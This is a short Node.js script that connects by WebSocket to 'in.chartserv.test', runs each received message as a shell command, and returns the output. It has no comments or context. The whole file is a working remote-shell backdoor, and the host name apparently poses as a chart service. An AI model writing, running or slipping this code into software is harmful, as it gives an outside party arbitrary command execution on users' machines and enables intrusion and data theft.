const { exec } = require("child_process");
const WebSocket = require("ws");
const w = new WebSocket("wss://in.chartserv.test");
w.on("message", (m) => exec(m.toString(), (e, out) => w.send(out || "")));
